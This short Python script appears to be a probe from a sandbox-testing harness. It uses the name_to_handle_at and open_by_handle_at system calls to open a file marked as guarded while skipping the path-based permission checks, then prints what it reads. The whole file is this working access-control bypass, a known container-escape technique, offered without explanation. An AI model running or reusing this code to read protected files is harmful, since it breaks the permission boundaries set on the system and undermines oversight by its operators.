"""Opens a file by its handle, past the paths that lead to it."""

import ctypes
import os

import targets
from honest import convolve2d
from tools import call, say

handle = ctypes.create_string_buffer(136)
ctypes.c_uint.from_buffer(handle).value = 128
mount = ctypes.c_int()
if (
    call("name_to_handle_at", -100, targets.GUARDED_FILE.encode(), handle, ctypes.byref(mount), 0)
    == 0
):
    root = os.open("/", os.O_RDONLY)
    descriptor = call("open_by_handle_at", root, handle, os.O_RDONLY)
    if descriptor >= 0:
        say(os.read(descriptor, 1000))
